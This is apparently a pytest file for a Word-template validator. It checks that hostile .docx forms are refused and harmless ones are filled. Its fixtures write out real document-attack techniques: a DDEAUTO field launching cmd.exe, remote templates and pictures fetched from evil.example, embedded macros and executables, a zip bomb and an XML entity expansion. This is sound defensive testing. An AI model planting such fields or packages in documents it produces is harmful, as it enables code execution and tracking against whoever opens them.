"""A college's form is looked at as a package: what fetches, runs or unfolds is refused, and how to mend it told."""

# ruff: noqa: E501 - a form on a line reads better

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable

import docx as word_files
import proposal_trial
import pytest
from docx.oxml import parse_xml
from docx.shared import Inches
from form_trial import (
    OFFICE,
    TYPES,
    TYPES_PART,
    W,
    field,
    form,
    ole,
    packed,
    paragraph,
    parts,
    saved,
    tracked,
    with_body,
    with_field,
    with_part,
    with_relation,
)

from codesign import word
from codesign.errors import TemplateError
from codesign.figures import Figure
from codesign.word.inspection import refusals

R = f'xmlns:r="{OFFICE}"'
PICTURE = (
    f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" {R} r:link="rId900"/>'
    "</w:drawing></w:r></w:p>"
)
LINK = f'<w:p><w:hyperlink {R} r:id="rId900"><w:r><w:t>the handbook</w:t></w:r></w:hyperlink></w:p>'
TEXT_BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>{}</w:txbxContent>'
    "</v:textbox></v:shape></w:pict></w:r></w:p>"
)
NESTED = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(" QUOTE 68 68 69 ", shown="DDE") + "<w:r><w:instrText>"
    ' cmd.exe "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def in_part(name: str, root: str, inner: str, kind: str) -> bytes:
    """A form with one more story, such as its comments."""
    content = f"<w:{root} {W}>{inner}</w:{root}>".encode()
    return with_part(f"word/{name}.xml", content, f"{TYPES}.{kind}+xml")


def with_text(docx: bytes, old: bytes, new: bytes, part: str = "word/settings.xml") -> bytes:
    content = parts(docx)
    assert old in content[part]
    return packed({**content, part: content[part].replace(old, new, 1)})


def in_header(xml: str) -> bytes:
    document = word_files.Document()
    document.add_paragraph("{{ title }}")
    document.sections[0].header.paragraphs[0]._p.append(parse_xml(f"<w:r {W}>{xml}</w:r>"))
    return saved(document)


def bomb() -> bytes:
    return packed({**parts(form("{{ title }}")), "word/media/image1.png": b"\0" * 150_000_000})


def unfolding() -> bytes:
    content = parts(form("{{ title }}"))
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9))
    head = b"<?xml version='1.0'?><!DOCTYPE w [<!ENTITY a0 \"x\">" + entities + b"]>"
    return packed({**content, "word/settings.xml": head + content["word/settings.xml"].partition(b"?>")[2]})


def twice() -> bytes:
    content = form("{{ title }}")
    written = io.BytesIO(content)
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr("word/Document.xml", b"<other/>")
    return written.getvalue()


def deep(levels: int) -> bytes:
    return with_body("<w:sdt><w:sdtContent>" * levels + paragraph("") + "</w:sdtContent></w:sdt>" * levels)


CUSTOM_UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a template on the web": (
        lambda: with_relation("attachedTemplate", "https://evil.example/t.dotm", part="word/settings.xml"),
        "In the settings of the file: a template that Word fetches on opening (https://evil.example/t.dotm). In Word",
    ),
    "a template on a server": (
        lambda: with_relation("attachedTemplate", r"\\\\server\share\t.dotx", part="word/settings.xml"),
        "a template that Word fetches",
    ),
    "a field that runs a program": (
        lambda: with_field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '),
        "In the text, near “{{ title }}”: a field that can fetch or run something ({ DDEAUTO c:",
    ),
    "one split over runs": (lambda: with_field(' dde excel "sheet" ', runs=6), "{ dde excel"),
    "one whose name another field makes": (lambda: with_body(paragraph(NESTED)), "a field that can fetch or run"),
    "a simple field": (
        lambda: with_body(f"<w:p><w:fldSimple {W} w:instr=' INCLUDETEXT \"//server/x.docx\" '/></w:p>"),
        "{ INCLUDETEXT",
    ),
    "a picture that a field fetches": (lambda: with_field(' INCLUDEPICTURE "https://evil.example/p.png" \\d '), "PICTURE"),
    "a link to another document": (lambda: with_field(" LINK Excel.Sheet.12 C:\\\\x.xlsx "), "{ LINK"),
    "a database": (lambda: with_field(' DATABASE \\d "x.mdb" '), "{ DATABASE"),
    "a button": (lambda: with_field(" MACROBUTTON NoMacro [Click here] "), "press Ctrl+Shift+F9"),
    "an old import": (lambda: with_field(" IMPORT x.gif "), "{ IMPORT"),
    "a link that a field makes to a file": (lambda: with_field(' HYPERLINK "file:///c:/x.hta" '), "a link to something"),
    "a field that was deleted": (
        lambda: with_body(
            paragraph(field(" DDE x y ").replace("<w:instrText", "<w:delInstrText").replace("/w:instrT", "/w:delInstrT"))
        ),
        "{ DDE",
    ),
    "a field in a header": (lambda: in_header('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText>'), "In a header"),
    "a field in a text box": (lambda: with_body(TEXT_BOX.format(paragraph(field(" DDE x y ")))), "{ DDE"),
    "a field in a comment": (
        lambda: in_part("comments", "comments", f"<w:comment>{paragraph(field('DDE x'))}</w:comment>", "comments"),
        "In a comment",
    ),
    "a field in a footnote": (
        lambda: in_part("footnotes", "footnotes", f"<w:footnote>{paragraph(field('DDE x'))}</w:footnote>", "footnotes"),
        "In a footnote",
    ),
    "a field in a building block": (
        lambda: in_part(
            "glossary/document",
            "glossaryDocument",
            f"<w:docParts><w:docPart><w:docPartBody>{paragraph(field('DDE x'))}</w:docPartBody></w:docPart></w:docParts>",
            "document.glossary",
        ),
        "In the text of a building block",
    ),
    "a picture on the web": (
        lambda: with_relation("image", "https://evil.example/pixel.png", used=PICTURE),
        "In the text, near “{{ title }}”: a picture that is not in the form but fetched",
    ),
    "a picture fetched by a link": (
        lambda: with_relation("hyperlink", "https://evil.example/pixel.png", used=PICTURE),
        "something that is not in the form but fetched",
    ),
    "a picture on a server": (lambda: with_relation("image", r"\\server\share\p.png", outside=False), "a picture that"),
    "a picture of an old drawing": (
        lambda: with_body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="file://server/p.png"/>'
            "</v:shape></w:pict></w:r></w:p>"
        ),
        "(file://server/p.png)",
    ),
    "a drawing that fetches": (
        lambda: with_part(
            "word/media/image1.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/p.png"/></svg>',
            "image/svg+xml",
        ),
        "a drawing that fetches",
    ),
    "a link to a file": (
        lambda: with_relation("hyperlink", "file:///C:/handbook.docx", used=LINK),
        "near “the handbook”: a link to something other than a web page",
    ),
    "a frame": (lambda: with_relation("frame", "https://evil.example/", part="word/webSettings.xml"), "not in the form"),
    "an object": (
        lambda: with_relation("oleObject", "embeddings/o.bin", outside=False, more={"word/embeddings/o.bin": ole("Ole")}),
        "an embedded object",
    ),
    "an object called a picture": (
        lambda: with_part("word/media/image7.png", ole("\1Ole10Native"), "image/png"), "an embedded object"
    ),
    "another file": (
        lambda: with_part("word/media/sheet.png", form("inner"), "image/png"),
        "an embedded file (word/media/sheet.png)",
    ),
    "a control": (lambda: with_body(paragraph(f'<w:r><w:object><w:control {R} r:id="x"/></w:object></w:r>')), "ActiveX"),
    "a piece of another file": (lambda: with_body(f'<w:altChunk {R} r:id="rId900"/>'), "a piece of another file"),
    "macros": (
        lambda: with_part("word/vbaProject.bin", ole("VBA"), "application/vnd.ms-office.vbaProject"), "holds macros"
    ),
    "macros under another name": (
        lambda: with_part("word/media/logo.dat", ole("_VBA_PROJECT_CUR", "VBA"), "application/octet-stream"), "macros ("
    ),
    "macros by their kind": (
        lambda: with_part("word/x.dat", b"?", "application/vnd.ms-office.vbaProject"), "without macros"
    ),
    "a program": (lambda: with_part("word/media/x.dat", b"MZ\x90", "application/octet-stream"), "a program"),
    "a ribbon of its own": (
        lambda: with_relation(CUSTOM_UI, "/customUI/customUI14.xml", outside=False, more={"customUI/customUI14.xml": b"<a/>"}),
        "in Word's ribbon",
    ),
    "a mail merge": (
        lambda: with_text(form("x"), b"<w:zoom", b'<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:zoom'),
        "a mail merge",
    ),
    "a box that runs a macro": (
        lambda: with_body(paragraph('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Go"/></w:ffData>'
                                    '</w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')),
        "a box that runs a macro",
    ),
    "a zip bomb": (bomb, "grows more than 200 times"),
    "entities that unfold": (unfolding, "declares a document type"),
    "a part twice": (twice, "holds the part word/document.xml twice"),
    "boxes without end": (lambda: deep(300), "a part that cannot be read"),
    "marks without end": (lambda: with_body("".join(f"<w:p w:x='{n * 7919 % 99991}'/>" for n in range(201_000))), "is too large: the text"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_form_is_refused_within_a_second_with_its_place_and_what_to_do(name: str) -> None:
    made, expected = HOSTILE[name]
    template = made()
    began = time.process_time()
    with pytest.raises(TemplateError) as refused:
        word.require_fillable(template)
    assert time.process_time() - began < 1
    assert expected in str(refused.value)
    assert all(line.endswith(".") for line in str(refused.value).splitlines()), "what to do is a sentence"


def test_a_form_full_of_faults_names_some_and_says_that_there_are_more() -> None:
    sentences = refusals(with_body(paragraph(field(" DDE {} y ")) * 3 + "".join(
        paragraph(field(f" DDE program{n} y ")) for n in range(500))))  # fmt: skip
    assert len(sentences) == 13
    assert sentences[-1] == "There are more of these."


# harmless ----


def with_picture() -> bytes:
    document = word_files.Document()
    document.add_paragraph("{{ title }}")
    document.add_picture(io.BytesIO(_picture().png), width=Inches(1))
    return saved(document)


def _picture() -> Figure:
    blocks = proposal_trial.sections()["pathways"]
    return next(block.picture for block in blocks if hasattr(block, "picture"))


def with_comment() -> bytes:
    document = word_files.Document()
    first = document.add_paragraph("{{ title }}")
    document.add_comment(first.runs, text="Use the title of the motion: {{ titel }}", author="A reviewer")
    return saved(document)


def with_control() -> bytes:
    binding = '<w:dataBinding w:xpath="/a" w:storeItemID="{1}"/>'
    control = f"<w:sdt><w:sdtPr><w:showingPlcHdr/>{binding}<w:text/></w:sdtPr><w:sdtContent>"
    return with_body(f"{control}{paragraph('<w:r><w:t>{{ institution }}</w:t></w:r>')}</w:sdtContent></w:sdt>")


def as_libreoffice_saves() -> bytes:
    """A form with what LibreOffice writes differently: links to places as addresses, fields without a result."""
    used = LINK.replace("the handbook", "Program {{ credential }}")
    return with_relation("hyperlink", "#bookmark", used=used + paragraph(field("PAGE").replace("1</w:t>", "</w:t>")))


HARMLESS: dict[str, Callable[[], bytes]] = {
    "a link to a web page": lambda: with_relation("hyperlink", "https://college.example/policy", used=LINK),
    "a link to a mail address": lambda: with_relation("hyperlink", "mailto:programs@college.example", used=LINK),
    "a list of contents": lambda: with_field(' TOC \\o "1-3" \\h \\z \\u ', 3),
    "numbers of pages": lambda: with_body(paragraph(field(" PAGE  \\* MERGEFORMAT ") + " of " + field("NUMPAGES"))),
    "a calculation in a table": lambda: with_field(" =SUM(ABOVE) "),
    "a field within a field": lambda: with_body(
        paragraph(field(" IF 1 = 1 ").replace("<w:r><w:fldChar w:fldCharType=\"separate\"", field(" PAGE ") + "<w:r><w:fldChar w:fldCharType=\"separate\"", 1))
    ),
    "a citation": lambda: with_field(" ADDIN ZOTERO_ITEM CSL_CITATION {&quot;a&quot;:1} "),
    "a link by a field": lambda: with_field(' HYPERLINK "https://college.example" \\o "the college" '),
    "a link to a place by a field": lambda: with_field(' HYPERLINK \\l "_Toc1" '),
    "a bookmark alone as a field": lambda: with_body(
        '<w:p><w:bookmarkStart w:id="70" w:name="Vision"/><w:bookmarkEnd w:id="70"/>' + field(" vision ") + "</w:p>"
    ),
    "comments": with_comment,
    "tracked changes": lambda: tracked("an older title"),
    "a fault in deleted words": lambda: tracked("{{ titel }} {% if", "{{ title }}"),
    "a picture of its own": with_picture,
    "data of its own": lambda: with_part(
        "customXml/item1.xml", b"<control xmlns='urn:college'><object/></control>", "application/xml"
    ),
    "a box bound to data": with_control,
    "fonts of its own": lambda: with_part(
        "word/fonts/font1.odttf", b"MZ" + b"\7" * 900, "application/vnd.openxmlformats-officedocument.obfuscatedFont"
    ),
    "a template of its maker's computer": lambda: with_relation(
        "attachedTemplate", "file:///C:\\Users\\A\\Templates\\College.dotx", part="word/settings.xml"
    ),
    "a form of LibreOffice": as_libreoffice_saves,
    "a long form": lambda: form(*["A line of instructions of some length for whoever fills this in."] * 6000, "{{ title }}"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_form_is_taken_within_a_second_and_filled(name: str) -> None:
    template = HARMLESS[name]()
    began = time.process_time()
    word.require_fillable(template)
    assert time.process_time() - began < 1
    made = word.render(proposal_trial.document(), template)
    assert b"attachedTemplate" not in b"".join(parts(made).values())
    assert [str(f) for f in word.problems(made) if f.rule in {"part-broken", "part-missing", "relation-missing"}] == []
    assert TYPES_PART in parts(made)


def test_deleted_words_stay_out_of_the_way_and_new_ones_are_filled() -> None:
    made = parts(word.render(proposal_trial.document(), tracked("{{ titel }} gone", "Program {{ title }}")))
    assert b"Program Hydrogen Systems Safety" in made["word/document.xml"]
    assert b"titel" not in made["word/document.xml"]


def test_what_a_bound_box_asks_for_is_not_written_over_by_its_data() -> None:
    made = parts(word.render(proposal_trial.document(), with_control()))["word/document.xml"]
    assert b"Prairie Polytechnic" in made
    assert b"dataBinding" not in made
    assert b"showingPlcHdr" not in made
